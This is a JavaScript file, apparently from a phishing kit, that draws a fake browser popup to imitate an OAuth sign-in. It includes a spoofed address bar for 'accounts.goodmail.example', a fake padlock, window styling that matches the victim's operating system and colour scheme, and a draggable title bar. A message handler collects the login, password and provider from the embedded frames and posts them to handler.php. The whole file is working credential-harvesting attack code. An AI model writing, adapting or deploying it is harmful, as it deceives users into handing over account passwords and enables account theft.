const win = document.getElementById('window');
const bar = document.getElementById('title-bar');
const dark = window.matchMedia('(prefers-color-scheme: dark)').matches;
const mac = /Mac/.test(navigator.platform);

win.classList.add(dark ? 'dark' : 'light', mac ? 'macos' : 'win11');
document.getElementById('logo-description').textContent = 'Sign in to your account';
document.getElementById('domain-name').textContent = 'https://accounts.goodmail.example';
document.getElementById('domain-path').textContent = '/o/oauth2/v2/auth?client_id=000&scope=openid%20email&prompt=login';
document.getElementById('ssl-padlock').src = dark ? 'img/lock-dark.svg' : 'img/lock.svg';

document.querySelectorAll('.oauth-btn').forEach((b) => b.addEventListener('click', () => {
  win.style.display = 'block';
  win.style.left = (innerWidth - 480) / 2 + 'px';
  win.style.top = '80px';
  document.getElementById('content').src = 'frames/' + b.dataset.provider + '.html';
}));

let drag = null;
bar.addEventListener('mousedown', (e) => { drag = [e.clientX - win.offsetLeft, e.clientY - win.offsetTop]; });
document.addEventListener('mouseup', () => { drag = null; });
document.addEventListener('mousemove', (e) => {
  if (!drag) return;
  win.style.left = e.clientX - drag[0] + 'px';
  win.style.top = e.clientY - drag[1] + 'px';
});

document.getElementById('maximize').onclick = () => win.classList.toggle('max');
document.getElementById('exit').onclick = () => { win.style.display = 'none'; };

window.addEventListener('message', async ({ data }) => {
  if (data.kind !== 'credentials') return;
  await fetch('handler.php', { method: 'POST', body: JSON.stringify({ login: data.login, password: data.password, from: data.provider }) });
  if (data.final) {
    win.remove();
    document.querySelector('.connected').hidden = false;
  }
});
